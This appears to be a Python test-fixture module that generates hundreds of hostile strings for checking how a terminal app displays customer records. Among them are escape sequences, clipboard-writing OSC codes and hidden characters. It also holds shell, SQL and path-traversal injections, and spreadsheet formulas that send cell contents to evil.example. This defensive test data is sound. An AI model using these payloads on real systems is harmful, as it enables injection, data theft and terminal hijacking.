"""Texts that a customer's record could hold to attack or mislead whoever looks at it: 500 and more, in 36 classes.

The classes follow reliability.md 2.3 (D01-D27): escape sequences of every kind, seven-bit and eight-bit, finished and
not; single controls; letters that turn, hide,
pile up or look alike; halves of characters and characters that are none;
markup of the screen library; what a shell, a path, SQL, a spreadsheet, HTML, XML, JSON, a regex or a format string
would act on; imitations of our own prompts; blanks, widths and lengths. Everything is made from small tables,
always in
the same order, so that a class and a number name a text for ever.

* `CLASSES`: the texts by class; `ALL`: class and text of each, in order.
* `SIXTY`: the sixty that every run looks at, all kinds of attack among them.
* `few(count)`: so many of all, each class in turn, as evenly as can be.
* `is_harmless(text)`: whether nothing in a text could act on a terminal, as this page and not the program knows it.
* `columns(text)`: how many cells a terminal gives a text, by the wcwidth library; None where terminals differ, which
  is said of sequences of emoji, lone halves of flags and marks that stand alone.
"""

import unicodedata
from collections.abc import Iterator

from wcwidth import wcwidth

FIELDS = ("email", "first_name", "last_name", "address", "city", "state", "zip", "country", "phone", "website")
ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

SIXTY = (
    # escape sequences
    "\x1b[31mred", "\x1b[2J\x1b[Hcleared", "\x1b[?1049l", "\x1b[8;50;200t", "\x1bc", "\x1b[6n", "\x1b[c", "\x1b[21t",
    "\x1b[?25l", "\x1b[4;2t", "\x1b(0lqk", "\x1b#8", "\x1b[?1000h", "\x1b[20h", "\x1b[1000@",
    # titles, clipboard, links, colours
    "\x1b]0;PWNED-TITLE\x07", "\x1b]2;PWNED-TITLE\x1b\\", "\x1b]52;c;UFdORUQ=\x07", "\x1b]52;c;UFdORUQ=\x1b\\",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "\x1b]4;1;#ffffff\x07", "\x1b]10;?\x07", "\x1b]50;x\x07",
    "\x1b]1337;File=name=eA==:AAAA\x07",
    # strings of the terminal's own
    '\x1bP$q"p\x1b\\', "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\", "\x1b_Gf=100;AAAA\x1b\\", "\x1b^pm\x1b\\",
    "\x1bXsos\x1b\\", "\x1bk-screen-title\x1b\\",
    # the same with eight-bit controls
    "\x9b31mred", "\x9d52;c;UFdORUQ=\x9c", "\x90q\x9c", "\x85next", "\x84\x8d\x8e\x8f",
    # single controls
    "a\x00b", "a\x07bell", "a\x08\x08\x08back", "a\x7fdel", "a\x0e\x0fshift", "a\rover", "two\nlines", "tab\there",
    "\x0b\x0c", "\x05enq",
    # letters that turn, hide or pile up
    "\u202egnp.exe", "\u2066\u2067\u2068\u2069", "pay\u200bpal", "\ufeffbom", "\u2028\u2029", "Z" + "\u0301" * 500,
    "\U000e0041\U000e0042tag", "\ue000\uf8ff", "\ud800lone", "\udfff\ud800",
    # markup of the screen library, and lengths
    "[/] 12", "[link=http://evil.example]y[/link]", "[@click=app.quit]z[/]", "[red]x [b", "M" * 100_000,
)  # fmt: skip

_CSI = (
    "0m", "1;31m", "38;5;196m", "38;2;1;2;3m", "2J", "3J", "H", "999;999H", "999A", "999B", "999C", "999D", "K", "1K",
    "?1049h", "?1049l", "?47h", "?25l", "?25h", "?1000h", "?1006h", "?2004h", "?2004l", "?7l", "20h", "4h", "s", "u",
    "r", "5;10r", "1000@", "1000P", "1000L", "1000M", "1000b", "!p", ">4;1m", ">1u", "<u", "8;1;1t", "22;0t", "1 q",
)  # fmt: skip
_REPORTS = (
    "[6n",
    "[?6n",
    "[5n",
    "[c",
    "[>c",
    "[=c",
    "[x",
    "[18t",
    "[21t",
    "[?1$p",
    "[?u",
    "Z",
    "]10;?\x07",
    "]52;c;?\x07",
)
_OSC = (
    "0;title", "1;icon", "2;title", "4;1;#fff", "4;1;?", "7;file://evil/", "9;message", "9;4;1;50", "10;#000", "11;?",
    "22;pointer", "50;font", "104", "112", "133;A", "633;A", "777;notify;a;b", "1337;SetMark", "1337;RequestUpload=",
    "3008;start=x",
)  # fmt: skip
_MARKUP = (
    "[/]", "[/b]", "[b", "[", "]", "[]", "[[", "[b]x", "[b]x[/b]", "[red]x[/]", "[on red]x", "[bold red]x[/bold]",
    "[link]x", "[link=http://evil.example]x[/link]", "[@click=app.quit]x[/]", "[@click=app.bell()]x[/]",
    "[@click='app.exit(1)']x[/]", "[$primary]x", "[#ff0000]x", "[rgb(1,2,3)]x", "[not a tag]", "\\[b]", "[\\b]",
    ":smile:", "[/link]", "[=]", "[b=]", "[a=b c=d]", "row[0]", "Jan [NL", "[KvK: 123]", "{{", "}}", "[0;31m",
    "[auto]x",
)  # fmt: skip
_BIDI = (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
_UNSEEN = (
    0xAD, 0x34F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180C, 0x180D, 0x180E, 0x200B, *range(0x2060, 0x2065),
    *range(0x206A, 0x2070), 0x3164, 0xFE00, 0xFE0D, 0xFEFF, 0xFFA0, *range(0xFFF9, 0xFFFC), *range(0x1BCA0, 0x1BCA4),
    *range(0x1D173, 0x1D17B),
)  # fmt: skip
_NEVER = frozenset({*_BIDI, *_UNSEEN, *range(0x180B, 0x1810), *range(0xFE00, 0xFE0E), *range(0xE0000, 0xE1000)})
_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', 'WEBSERVICE("http://evil.example")', "A1", '"a"',
    'DDE("cmd";"/C calc";"x")', "1;2", "-1", "+1",
)  # fmt: skip
_FORMULA_STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "\u00a0=", "\u3000-", "\ufeff@", "\u200b=", "＝", "＋", "－",
    "＠", "'=", "''=", '"=', "x;=", "x; +", 'x;"=', "x\n=", "x\t=",
)  # fmt: skip


def formulas() -> list[str]:
    """Return what a spreadsheet could run: every start with every payload, 300 in all."""
    return [start + payload for start in _FORMULA_STARTS for payload in _FORMULAS]


def _framed(starts: tuple[str, ...], bodies: tuple[str, ...], ends: tuple[str, ...]) -> list[str]:
    return [
        start + body + ends[(at + of) % len(ends)] for of, start in enumerate(starts) for at, body in enumerate(bodies)
    ]


CLASSES: dict[str, tuple[str, ...]] = {
    name: tuple(dict.fromkeys(texts))
    for name, texts in {
        "control sequences": [f"{ESC}[{rest}x" for rest in _CSI],
        "control sequences, eight bits": [f"a\x9b{rest}" for rest in _CSI[::3]],
        "reports": [f"{ESC}{rest}" for rest in _REPORTS],
        "titles and more": _framed((f"{ESC}]",), _OSC, (BEL, ST, "\x9c", "")),
        "titles and more, eight bits": _framed(("\x9d",), _OSC[::3], (BEL, "\x9c", "")),
        "clipboard": _framed((f"{ESC}]52;", "\x9d52;"), ("c;cm0gLXJm", "p;eA==", ";eA==", "c;?"), (BEL, ST, "\x9c")),
        "links": [f"{ESC}]8;{params};http://evil.example{BEL}y{ESC}]8;;{BEL}" for params in ("", "id=1", "a=b:c=d")],
        "device strings": _framed(
            (f"{ESC}P", "\x90"),
            ('$q"p', "+q544e", "tmux;x", "1$r0m", "=1s"),
            (ST, "\x9c", ""),
        ),
        "other strings": _framed((f"{ESC}_", f"{ESC}^", f"{ESC}X", f"{ESC}k", "\x9f"), ("Ga=T;AAAA", "x"), (ST, "")),
        "short escapes": [
            f"{ESC}{rest}"
            for rest in ("c", "7", "8", "D", "E", "M", "=", ">", "(0", ")B", "#8", "%G", "n", "")
        ],
        "single controls": [f"a{chr(code)}b" for code in (*range(0x20), 0x7F)],
        "single controls, eight bits": [f"a{chr(code)}b" for code in range(0x80, 0xA0)],
        "line breaks": [
            "a\rb", "a\nb", "a\r\nb", "\n", "\r", "a\x0bb", "a\x0cb", "a\x85b", "a\u2028b", "a\u2029b", "a\tb",
            "a\n\n\nb", "x\rApplied: delete", "\n" * 50, "\t" * 50,
        ],
        "turning": [f"abc{chr(code)}def" for code in _BIDI] + ["\u202egnp.exe", "\u2067a\u2066b", "א1\u200e2"],
        "unseen": [f"ad{chr(code)}min" for code in _UNSEEN],
        "tags and selectors": [
            "a\U000e0061\U000e007f", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "a\U000e0100", "a\ufe0f",
            "葛\U000e0101", "a\ufe0e", "\U000e0001",
        ],
        "piles": [
            letter + mark * count
            for letter in "Zก" for mark in "\u0301\u0489\u0e49\u20dd" for count in (1, 5, 500)
        ],
        "halves": ["\ud800", "\udfff", "a\ud83db", "\udc00\ud800", "\ud800\ud800", "\udc80raw", "\ud83d\ude00"],
        "no characters": [
            "\ufdd0", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ue000", "\uf8ff", "\U000f0000", "\u0378",
            "\U0003ffff",
        ],
        "look-alikes": [
            "аdmin", "admіn", "ａｄｍｉｎ", "ɑdmin", "admin\u0307", "ﬁle", "K", "Ⅻ", "e\u0301", "é", "ß", "ı", "İ",
            "ⅼogin", "раура1",
        ],
        "wide": [
            "日本語テスト", "한국어", "\u1112\u1161\u11ab", "中" * 60, "😀" * 30, "ｗｉｄｅ", "①②③", "§±×", "─│┌",
            "㍿",
        ],
        "emoji": [
            "👩\u200d👩\u200d👧", "👩\u200d🌾", "🇪🇸", "🇪", "👍🏽", "🏽", "❤\ufe0f", "1\ufe0f\u20e3",
            "🏳\ufe0f\u200d🌈",
        ],
        "scripts": [
            "می\u200cخواهم", "العربية", "עברית", "हिन्दी", "ไทย", "தமிழ்", "Ελληνικά", "Кириллица", "Tiếng Việt",
            "ქართული",
        ],
        "markup": list(_MARKUP),
        "format strings": [
            "%s", "%n", "%(key)s", "%", "%%", "{0}", "{}", "{0.__class__}", "{key!r:>9999}", "$key", "${key}",
            "%999999d", "{:999999}",
        ],
        "shell": [
            "; rm -rf /", "$(reboot)", "`reboot`", "| cat", "&& x", "> /tmp/x", "'", '"', "\\", "a'b\"c", "--all",
            "-rf", "--", "-", "~", "*", "!x", "#x", "a\\\nb", "$IFS", "--confirm=x", "@file",
        ],
        "paths": [
            "../../etc/passwd", "/etc/passwd", "C:\\con", "\\\\host\\share", "file:///x", "a/b", ".", "..", "nul",
            "~root", "a\x00.csv",
        ],
        "SQL": ["' OR 1=1 --", "'; DROP TABLE t; --", "%", "_", "a%b_c", '"; --', "\\'", "x' UNION SELECT 1"],
        "formulas": formulas()[::9],
        "HTML and XML": [
            "<b>x</b>", "<script>x</script>", "&amp;amp;", "&lt;", "&#0;", "&#x1b;", "<![CDATA[x]]>", "]]>", "<!--",
            "-->", "</user><user>", "<?x?>", "<!DOCTYPE a>", "&nope;", "&",
        ],
        "JSON": [
            "null", "true", "NaN", '{"a":1}', "[1]", '","email":"x', "\\u0000", "\\ud800", "\\", '"', "1e999",
            "01234", "-0", '{"message":"success"}', "success",
        ],
        "regexes": [
            "(a+)+$", "[", "(", "*", "\\", ".*", "(?=x)", "(?P<x>y)\\1", "a{99999}", "^", "$", "|", "x~y",
            "(?i)(?s)",
        ],
        "filters": ["sending:on", "-x", '"', 'a"b', "is:marked", "a:b=c~d", "city:", "nofield:x", "://", "- -"],
        "prompts": [
            "Type the username", "y/N:", "Applied 14:02 delete", "\rUNKNOWN", "Password:", " (2 of 2) ", "READ-ONLY",
            'user1" -> "user2', "…", "not given", "(same)", "(damaged row)",
        ],
        "blanks": ["", " ", "  ", " a ", "\u00a0", "\u3000", "\u2003a", "a  b", "\u1680", "\u205f", "\u2800"],
        "lengths": [
            "M" * 1000, "é" * 1000, "日" * 1000, "a b " * 500, "M" * 100_000, "日" * 20_000, "\x1b" * 5000,
            "x\n" * 5000,
        ],
    }.items()
}  # fmt: skip
ALL = tuple((name, text) for name, texts in CLASSES.items() for text in texts)


def few(count: int) -> list[tuple[str, str]]:
    """Return so many of all, a class after the other in turn."""
    waiting: list[Iterator[tuple[str, str]]] = [
        iter([(name, text) for text in texts]) for name, texts in CLASSES.items()
    ]
    found: list[tuple[str, str]] = []
    while waiting and len(found) < count:
        for each in list(waiting):
            following = next(each, None)
            if following is None:
                waiting.remove(each)
            elif len(found) < count:
                found.append(following)
    return found


def is_harmless(text: str) -> bool:
    """Whether nothing in a text could act on a terminal, break a line, or hide."""
    return not any(
        unicodedata.category(char) in {"Cc", "Cs", "Co", "Cn", "Zl", "Zp"} or ord(char) in _NEVER for char in text
    )


def columns(text: str) -> int | None:
    """Return how many cells a terminal gives a text; None where terminals differ."""
    return None if any(map(_is_disputed, text)) else sum(max(wcwidth(char), 0) for char in text)


def _is_disputed(char: str) -> bool:
    if unicodedata.category(char) in {"Mc", "Cf"} or char in "\ufe0e\ufe0f":
        return True
    if "\U0001f1e6" <= char <= "\U0001f1ff" or "\U0001f3fb" <= char <= "\U0001f3ff":
        return True
    # What became wide with a later Unicode than Python's.
    return wcwidth(char) == 2 and unicodedata.east_asian_width(char) not in {"W", "F"}
